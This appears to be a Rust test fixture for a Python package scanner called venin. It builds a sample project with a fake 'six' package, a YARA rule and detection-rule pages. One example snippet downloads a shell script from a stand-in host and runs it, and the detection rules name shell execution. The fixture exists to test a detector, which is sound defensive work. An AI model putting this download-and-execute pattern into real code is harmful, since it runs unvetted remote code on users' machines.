//! The folder in which the README's commands run: a project with archives, an environment, requirements and rules.

use std::io::Write;
use std::path::Path;

use crate::index;

/// What the README shows for YARA.
pub(crate) const YARA_PATTERN: &str = "fact(yara.match)(rule ~ /loader/i)";

const METADATA: &str = "Metadata-Version: 2.1\nName: six\nVersion: 1.17.0\nSummary: An example\n";
const SETUP: &str = "from setuptools import setup\nsetup(name='six', version='1.17.0', py_modules=['six'])\n";
const MODULE: &str = "def double(x):\n    return 2 * x\n";
const RECORD: &str = "six.py,,\nsix-1.17.0.dist-info/METADATA,,\nsix-1.17.0.dist-info/WHEEL,,\n\
                      six-1.17.0.dist-info/RECORD,,\n";
const YARA: &str = "rule my_loader { strings: $mark = \"load the next stage\" condition: $mark }\n";

const SDIST_NAME: &str = "six-1.17.0.tar.gz";
const WHEEL_NAME: &str = "six-1.17.0-py2.py3-none-any.whl";

/// The folder, the index that belongs to it, and `venin` on the path.
pub(crate) struct Desk {
    root: tempfile::TempDir,
    index_url: String,
}

impl Desk {
    /// A folder with all that the README's commands name.
    pub(crate) fn new() -> Self {
        let files = [(SDIST_NAME, sdist()), (WHEEL_NAME, wheel())];
        let desk = Self { root: tempfile::tempdir().unwrap(), index_url: index::serve("six", &files) };
        for (name, bytes) in files {
            desk.write(&format!("dist/{name}"), &bytes);
            desk.write(&format!("wheels/{name}"), &bytes);
        }
        desk.write("setup.py", SETUP);
        desk.write("six.py", MODULE);
        desk.write("requirements.txt", "six==1.17.0  # pinned\n");
        let site = ".venv/lib/python3.13/site-packages";
        desk.write(&format!("{site}/six.py"), MODULE);
        desk.write(".venv/bin/six-tool", "#!/usr/bin/python3\nimport six\nprint(six.double(2))\n");
        desk.write(&format!("{site}/six-1.17.0.dist-info/METADATA"), METADATA);
        desk.write(
            &format!("{site}/six-1.17.0.dist-info/RECORD"),
            format!("{RECORD}../../../bin/six-tool,,\n"),
        );
        desk.write(&format!("{site}/six-1.17.0.dist-info/WHEEL"), "Wheel-Version: 1.0\n");
        desk.write("my-rules/my-rule.md", page("my-rule", 0.1, "S -> Cs.shell -> E\n", SHELL_EXAMPLE));
        desk.write("loaders.yar", YARA);
        desk.write("loader.py", "text = 'load the next stage'\n");
        let pattern = format!("S -> {YARA_PATTERN} -> E\n");
        desk.write("yara-rules/my-loader.md", page("my-loader", 9.0, &pattern, LOADER_EXAMPLE));
        std::fs::create_dir_all(desk.folder().join("../bin")).unwrap();
        std::os::unix::fs::symlink(env!("CARGO_BIN_EXE_venin"), desk.folder().join("../bin/venin")).unwrap();
        desk
    }

    /// The working directory.
    pub(crate) fn folder(&self) -> std::path::PathBuf {
        self.root.path().join("project")
    }

    pub(crate) fn write(&self, path: &str, content: impl AsRef<[u8]>) {
        let path = self.folder().join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, content).unwrap();
    }

    /// Variables for a command: `venin` is this build, the index is ours, and the user has no configuration.
    pub(crate) fn environment(&self) -> Vec<(&'static str, String)> {
        let path = std::env::var("PATH").unwrap_or_default();
        let text = |path: &Path| path.to_str().unwrap().to_owned();
        vec![
            ("PATH", format!("{}:{path}", text(&self.root.path().join("bin")))),
            ("HOME", text(self.root.path())),
            ("VENIN_INDEX_URL", self.index_url.clone()),
        ]
    }
}

/// A source distribution as a gzipped tar.
fn sdist() -> Vec<u8> {
    let gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    let mut tar = tar::Builder::new(gzip);
    for (name, content) in [("PKG-INFO", METADATA), ("setup.py", SETUP), ("six.py", MODULE)] {
        let mut header = tar::Header::new_ustar();
        header.set_size(content.len() as u64);
        header.set_mode(0o644);
        tar.append_data(&mut header, format!("six-1.17.0/{name}"), content.as_bytes()).unwrap();
    }
    tar.into_inner().unwrap().finish().unwrap()
}

fn wheel() -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let members = [
        ("six.py", MODULE),
        ("six-1.17.0.dist-info/METADATA", METADATA),
        ("six-1.17.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py2-none-any\n"),
        ("six-1.17.0.dist-info/RECORD", RECORD),
    ];
    for (name, content) in members {
        zip.start_file(name, zip::write::SimpleFileOptions::default()).unwrap();
        zip.write_all(content.as_bytes()).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

const SHELL_EXAMPLE: &str = "import os\nos.system(\"echo hello\")  # finding: my-rule\n";
const LOADER_EXAMPLE: &str = "text = \"load the next stage\"  # finding: my-loader\n";
const DROPPER_EXAMPLE: &str = "import subprocess, urllib.request\n\
    body = urllib.request.urlopen(\"https://files.example/hello.sh\").read()\n\
    open(\"hello.sh\", \"wb\").write(body)\n\
    subprocess.run([\"./hello.sh\"])  # finding: my-dropper\n";

/// A page for a pattern that sees a download being written and run.
pub(crate) fn dropper_page(pattern: &str) -> String {
    page("my-dropper", 1.0, pattern, DROPPER_EXAMPLE)
}

fn page(id: &str, weight: f64, pattern: &str, example: &str) -> String {
    format!(
        "+++\nid = \"{id}\"\ntitle = \"Is an example\"\nbehavior = \"command execution\"\nseverity = \"low\"\n\
         confidence = \"low\"\nweight = {weight:.1}\nattack = [\"T1059\"]\nsince = \"0.1\"\n+++\n\n\
         ## What it detects\n\nAn example.\n\n```pattern\n{pattern}```\n\n## Why it matters\n\nIt does not.\n\n\
         ## Examples\n\n```python\n{example}```\n\n## Benign look-alikes\n\n\
         ### Nothing is run\n\n```python\nimport os\nprint(os.name)\n```\n\n\
         ### Another call of the same module\n\n```python\nimport os\nprint(os.getcwd())\n```\n"
    )
}
